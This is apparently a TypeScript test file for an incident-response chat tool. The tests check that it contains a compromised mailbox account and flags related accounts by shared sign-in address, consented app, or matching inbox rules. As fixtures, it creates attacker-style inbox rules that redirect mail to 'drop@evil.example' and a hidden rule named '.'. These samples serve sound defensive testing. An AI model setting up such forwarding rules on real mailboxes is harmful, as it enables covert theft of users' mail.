/** Beyond the one account: a name that may mean it asks with a button, and accounts that the same attacker may hold are named with one each. */
import { incidentCard } from '../../src/features/incident/gateway/incident-card';
import { textOf } from '../support/chat/chat-room';
import { type IncidentLab, night, openIncidentLab } from '../support/corridor/incident-lab';
import { ids } from '../support/corridor/office';
import { type Planted, ran } from '../support/intrusion/plant';
import { memorySweeps } from '../support/sweep/sweep-lab';
import { accounts, incidentTenant } from '../support/tenants/incident-tenant';

const { mia, helpdesk } = accounts;
let lab: IncidentLab;
afterEach(() => lab.close());

async function open(graph: object = {}): Promise<void> {
  lab = await openIncidentLab(incidentTenant(night, { graph }), { approvals: { incident: [ids.bo] } });
}

const presses = async (id: string): Promise<string> => {
  const answer = await lab.office.does('ana', { clicks: 'contain', on: id });
  await lab.office.settle();
  return answer;
};

test.each([
  ['mia', mia.id],
  ['miaa@contoso.com', mia.id],
])('%s contains nothing, and a press on the button that asks contains the account', async (typed, subject) => {
  await open();
  await lab.says('ana', `contain ${typed}`);
  expect(lab.change()).toMatchObject({ status: 'refused', refusal: { accounts: [{ id: subject, name: mia.name }] } });
  expect(await presses(subject)).toBe('done');
  expect(lab.change().plan).toMatchObject({ control: 'contain', incident: { account: mia } });
});

test('a name that several accounts have asks with a button for each', async () => {
  await open();
  await lab.says('ana', 'contain twin');
  expect(
    lab
      .change()
      .refusal?.accounts?.map(({ name }) => name)
      .sort(),
  ).toEqual(['twin.one@contoso.com', 'twin.two@contoso.com']);
});

test('accounts that were reached from the same address or consented to the same app are named, each with a button that contains it', async () => {
  const { graph } = incidentTenant(night) as unknown as { readonly graph: Record<string, object[]> };
  const same = { ...graph['signIns']?.[1], id: 'same-address', userId: helpdesk.id, userPrincipalName: helpdesk.name };
  const grant = { ...graph['oauth2PermissionGrants']?.[0], id: 'same-app', principalId: accounts.shared.id };
  await open({
    signIns: [...(graph['signIns'] ?? []), same],
    oauth2PermissionGrants: [...(graph['oauth2PermissionGrants'] ?? []), grant],
  });
  await lab.says('ana', `contain ${mia.name}`);
  expect(lab.incident().evidence?.others).toEqual([
    { id: helpdesk.id, name: helpdesk.name, why: 'signed in from 203.0.113.66, as the attacker did' },
    { id: accounts.shared.id, name: accounts.shared.id, why: 'consented to the same app, Mail Sync Pro' },
  ]);
  const card = incidentCard({ tenant: 'contoso', incident: lab.incident(), stages: [], file: null });
  expect(textOf(card)).toContain(`Plan to contain ${helpdesk.name}`);
  expect(await presses(helpdesk.id)).toBe('done');
  expect(lab.change().plan?.incident?.account).toEqual(helpdesk);
});

test('accounts that made a rule of the same name or to the same address are named, each with a button that contains it', async () => {
  const state = incidentTenant(night) as unknown as Planted;
  const made = (name: string, parameters: Readonly<Record<string, string>>) =>
    ran(state, { id: '', name, at: new Date(night.getTime() - 3600_000) }, 'New-InboxRule', parameters);
  made(helpdesk.name, { Name: 'anything', RedirectTo: 'drop@evil.example' });
  made(accounts.shared.name, { Name: '.', MoveToFolder: 'RSS Feeds' });
  made(accounts.global.name, { Name: 'newsletters', MoveToFolder: 'News' });
  made(mia.name, { Name: 'out', RedirectTo: 'drop@evil.example' });
  lab = await openIncidentLab(state, { approvals: { incident: [ids.bo] } });
  await lab.says('ana', `contain ${mia.name}`);
  expect(lab.incident().evidence?.others).toEqual([
    { ...accounts.shared, why: 'made a rule of the same name as the attacker\'s, "."' },
    { ...helpdesk, why: "made a rule that sends mail to drop@evil.example, as the attacker's does" },
  ]);
  expect(await presses(helpdesk.id)).toBe('done');
  expect(lab.change().plan?.incident?.account).toEqual(helpdesk);
});

describe('the same rule in other mailboxes', () => {
  const kept = (account: { readonly id: string; readonly name: string }, rule: object) => ({
    id: account.id,
    name: account.name,
    also: [],
    rulesAt: night.toISOString(),
    accessAt: null,
    rules: [{ name: 'sync', targets: [] as string[], hidden: false, enabled: true, hides: false, ...rule }],
    grants: [],
    more: 0,
    onBehalf: [],
  });
  const outside = { targets: ['"x" [SMTP:drop@evil.example]'] };

  async function openSwept(tenant: object): Promise<void> {
    const sweeps = memorySweeps();
    await sweeps.saveHead('', { listedAt: night.toISOString(), mailboxes: 4, logAt: null, unplaced: 0 });
    await sweeps.savePart('', 0, [
      kept(helpdesk, outside),
      kept(accounts.shared, { name: '.', hides: true }),
      kept(accounts.global, { ...outside, enabled: false }),
      kept(mia, outside),
    ]);
    lab = await openIncidentLab(incidentTenant(night), { approvals: { incident: [ids.bo] }, tenant, sweeps });
    await lab.says('ana', `contain ${mia.name}`);
  }

  const named = [
    { ...helpdesk, why: "has a rule that sends mail to drop@evil.example, as the attacker's does" },
    { ...accounts.shared, why: 'has a rule of the same name as the attacker\'s, "."' },
  ];

  test('is found where the sweep read it, whenever it was made', async () => {
    await openSwept({ mailboxSweep: {} });
    expect(lab.incident().evidence?.others).toEqual(named);
    expect(lab.incident().evidence?.counts).toContainEqual({
      what: 'inbox rules of all mailboxes, as the sweep read them',
      rows: 4,
    });
  });

  test('names its account still once the rule that led there is off', async () => {
    await openSwept({ mailboxSweep: {} });
    await lab.approves('bo');
    await lab.says('ana', `clean ${lab.incident().id}`);
    const plan = lab.office.newest();
    for (const who of ['bo', 'cy'] as const) await lab.approves(who, plan);
    lab.office.forward(16 * 60_000);
    await lab.office.settle();
    const rule = lab.incident().evidence?.items.find(({ what }) => what.includes('drop@evil.example'));
    expect(rule?.gone).toBeDefined();
    expect(lab.incident().evidence?.others).toEqual(named);
  });

  test('is looked for in the log alone where mailboxes are not swept', async () => {
    await openSwept({});
    expect(lab.incident().evidence?.others).toBeUndefined();
  });
});
